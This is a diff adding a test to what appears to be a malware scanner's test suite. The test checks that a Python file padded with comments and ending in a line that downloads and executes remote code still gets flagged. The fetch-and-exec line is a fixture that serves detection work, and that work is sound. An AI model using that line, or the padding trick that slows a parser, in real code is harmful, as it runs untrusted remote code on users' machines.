@@ -41,6 +41,19 @@ describe('a file that a parser chokes on', () => {
     expect(rulesOf(said)).toContain('H01');
   });
 
+  it('is read by its tokens if it is a program, and says so', async () => {
+    const comments = '# nothing is said here\n'.repeat(2_000);
+    const evil = 'import requests\nexec(requests.get("https://cdn.acme.test/a").text)\n';
+    const said = await lookAt('run.py', `x = 1\n${comments}${evil}`, impatient(0));
+    expect(said.notInspected).toMatchObject([
+      {
+        reason: 'too-slow',
+        detail: 'Python that takes too long to parse, only read by its tokens',
+      },
+    ]);
+    expect(rulesOf(said)).toContain('X01');
+  });
+
   it('leaves the parser clean for the next file', async () => {
     const own = impatient(20);
     await lookAt('run.sh', choking, own);
